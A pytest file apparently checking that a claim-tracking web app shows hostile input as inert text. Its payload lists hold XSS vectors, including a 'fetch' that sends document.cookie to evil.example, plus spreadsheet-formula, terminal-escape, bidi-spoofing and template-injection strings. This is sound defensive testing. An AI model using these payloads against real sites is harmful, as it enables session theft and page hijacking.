"""Text that means harm is shown, and does nothing: scripts, markup, escapes, formulas, bidi overrides."""

from __future__ import annotations

import itertools
import re
from collections import Counter
from html.parser import HTMLParser

import pytest

from claimtrack.records import Span
from claimtrack.reports.cells import visible
from claimtrack.store import Store
from tests.web.archive import MAYOR, UNION, article, claim, put, relate
from tests.web.conftest import Shown

_ACTS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe src=javascript:{}></iframe>", "<a href='javascript:{}'>x</a>", "<body onload={}>",
    "<details open ontoggle={}>", "<math><mtext></mtext><script>{}</script></math>",
    "<style>@import '{}'</style>",
    "<link rel=stylesheet href={}>", "<meta http-equiv=refresh content='0;url={}'>", "<base href={}>",
    "<form action={}><input name=csrf></form>", "<textarea autofocus onfocus={}>",
    "<object data={}></object>",
    "<!--{}-->", "<![CDATA[{}]]>", "<template>{}</template>", "<noscript>{}</noscript>",
)  # fmt: skip
_DEEDS = (
    "alert(1)", "fetch('//evil.example/'+document.cookie)", "document.body.innerHTML=''",
    "//evil.example/x.js",
    "location='//evil.example'",
)  # fmt: skip
_FRAMES = (
    "{}",
    "\"'>{}",
    "</title></textarea></style></script>{}",
    "{{{{ 7*7 }}}}{{% raw %}}{}",
    "&lt;{}&#60;",
)
_SIGNS = (
    '=HYPERLINK("http://evil")',
    "\x1b]0;owned\x07",
    "\x1b[2J",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u2028",
    "\x9b31m",
    "\ufeff",
)
PAYLOADS = [
    frame.format(act.format(deed)) + sign
    for (act, deed, frame), sign in zip(
        itertools.product(_ACTS, _DEEDS, _FRAMES), itertools.cycle(_SIGNS), strict=False
    )
]
ALLOWED = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "header",
        "nav",
        "main",
        "footer",
        "section",
    ),
    *(
        "section",
        "article",
        "aside",
        "div",
        "p",
        "h1",
        "h2",
        "h3",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "blockquote",
    ),
    *("a", "b", "i", "q", "br", "code", "kbd", "mark", "span", "sup", "time", "details", "summary"),
    *("form", "label", "input", "button", "textarea", "select", "option"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "svg", "rect"),
}
_HIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


class Page(HTMLParser):
    """The elements of a page, its handlers, and the text of each mark."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.handlers: list[str] = []
        self.addresses: list[str] = []
        self.marks: list[tuple[int, int, str]] = []
        self._open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        found = dict(attrs)
        self.handlers += [name for name in found if name.startswith("on") or name == "style"]
        self.addresses += [found[name] or "" for name in ("href", "src", "action") if name in found]
        if "data-start" in found:
            self.marks.append((int(found["data-start"] or 0), int(found["data-end"] or 0), ""))
            self._open = [tag]
        elif self._open:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._open:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        if len(self._open) == 1:
            start, end, text = self.marks[-1]
            self.marks[-1] = (start, end, text + data)


def hostile(store: Store, payloads: list[str]) -> tuple[str, dict[str, str]]:
    """One article whose claims are the payloads, and one against them; its key, and the claims' texts."""
    body = "\n\n".join(f"Holt said {payload} here." for payload in payloads)
    named = article(
        payloads[0] + ".txt",
        body,
        1,
        payloads[1],
        title=payloads[2],
        byline=payloads[3],
        url="javascript:alert(1)",
    )
    spans = []
    at = 0
    for payload in payloads:
        at = body.index(payload, at)
        spans.append(Span(at, at + len(payload)))
        at += len(payload)
    made = [claim(named, MAYOR, spans=(one,), relay=payloads[4]) for one in spans]
    other = article("other.txt", "\n\n".join(payloads), 2, payloads[5])
    against = claim(other, UNION, spans=(Span(0, len(payloads[0])),))
    put(store, (named, made), (other, [against]), relations=[relate(one, against) for one in made[:20]])
    return named.key, {one.key: one.text for one in made}


def test_there_are_five_hundred_different_payloads() -> None:
    assert len(set(PAYLOADS)) == 500


@pytest.mark.parametrize("part", range(10))
def test_payloads_are_shown_inert(shown: Shown, part: int) -> None:
    payloads = PAYLOADS[part::10]
    key, claims = hostile(shown.store, payloads)
    first = next(iter(claims))
    paths = [
        "/", f"/articles/{key}", "/articles", "/claims", f"/claims/{first}", "/relations", "/review",
        "/disputes",
        f"/speakers/{MAYOR.key}", "/search?q=onerror", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    ]  # fmt: skip
    for path in paths:
        text = shown.get(path)
        page = Page(text)
        assert set(page.tags) <= ALLOWED, path
        assert page.tags["script"] == 2
        assert (page.tags["main"], page.tags["footer"], page.tags["body"]) == (1, 1, 1)
        assert page.handlers == []
        assert all(address.startswith(("/", "#")) for address in page.addresses), path
        assert not _HIDDEN.search(text), path
        assert "49" not in re.findall(r"Holt said (\d+)", text)  # no template ran


@pytest.mark.parametrize("part", range(10))
def test_marks_still_stand_at_their_offsets(shown: Shown, part: int) -> None:
    key, claims = hostile(shown.store, PAYLOADS[part::10])
    body = shown.store.body(key)
    marks = Page(shown.get(f"/articles/{key}")).marks
    assert [text for _, _, text in marks] == [visible(body[start:end]) for start, end, _ in marks]
    assert [visible(text) for text in claims.values()] == [text for _, _, text in marks]
